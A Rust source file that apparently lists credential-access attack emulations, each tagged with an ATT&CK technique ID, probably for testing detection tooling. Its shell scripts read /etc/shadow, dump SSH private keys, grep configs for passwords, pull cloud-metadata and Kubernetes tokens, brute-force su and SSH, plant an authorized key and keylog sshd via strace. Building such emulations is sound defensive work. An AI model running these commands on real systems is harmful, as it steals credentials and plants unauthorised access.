//! Ways to secrets: password files, keys, tokens, guessing.

use super::{Attack, User};

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "shadow-read",
        technique: "T1003.008",
        user: User::Root,
        script: r#"
cat /etc/shadow > /dev/null; unshadow /etc/passwd /etc/shadow; cp /etc/shadow /tmp/s; rm -f /tmp/s
"#,
    },
    Attack {
        name: "ssh-keys-searched",
        technique: "T1552.004",
        user: User::Alice,
        script: r#"
find / -name 'id_rsa*' -o -name 'id_ed25519*' -o -name '*.pem' 2>/dev/null | head; cat /home/*/.ssh/id_* /root/.ssh/id_* 2>/dev/null
"#,
    },
    Attack {
        name: "passwords-grepped",
        technique: "T1552.001",
        user: User::WebServer,
        script: r#"
grep -ri --include=*.conf password /etc 2>/dev/null | head -3; find / -name '.git-credentials' -o -name '.aws' 2>/dev/null | head -2
"#,
    },
    Attack {
        name: "cloud-metadata",
        technique: "T1552.005",
        user: User::WebServer,
        script: r#"
curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/; curl -s -m 2 -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
"#,
    },
    Attack {
        name: "process-memory-read",
        technique: "T1003.007",
        user: User::Root,
        script: r#"
sleep 20 & dd if=/proc/$!/maps of=/dev/null; gdb -q -batch -p $! -ex 'generate-core-file /tmp/core.x' >/dev/null 2>&1; kill %1; rm -f /tmp/core.x
"#,
    },
    Attack {
        name: "su-guessed",
        technique: "T1110.001",
        user: User::Alice,
        script: r#"
for word in a b c d e f g h; do echo $word | su root -c id 2>/dev/null; done
"#,
    },
    Attack {
        name: "ssh-guessed",
        technique: "T1110.001",
        user: User::Alice,
        script: r#"
for round in 1 2 3 4 5; do
    for n in 1 2 3; do
        ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o KexAlgorithms=curve25519-sha256 root@203.0.113.5 true &
    done
    wait
done 2>/dev/null
"#,
    },
    Attack {
        name: "authorized-key-added",
        technique: "T1098.004",
        user: User::WebServer,
        script: r#"
sh -c 'mkdir -p /var/www/.ssh; echo "ssh-ed25519 AAAA x" | tee -a /var/www/.ssh/authorized_keys'
"#,
    },
    Attack {
        name: "keylogger-strace",
        technique: "T1056",
        user: User::Root,
        script: r#"
timeout 2 strace -f -e trace=read -p $(pidof -s sshd) -o /tmp/keys; rm -f /tmp/keys
"#,
    },
    Attack {
        name: "tokens-of-kubernetes",
        technique: "T1528",
        user: User::Root,
        script: r#"
cat /var/run/secrets/kubernetes.io/serviceaccount/token; curl -s -k -m 2 https://203.0.113.5:6443/api/v1/secrets
"#,
    },
];
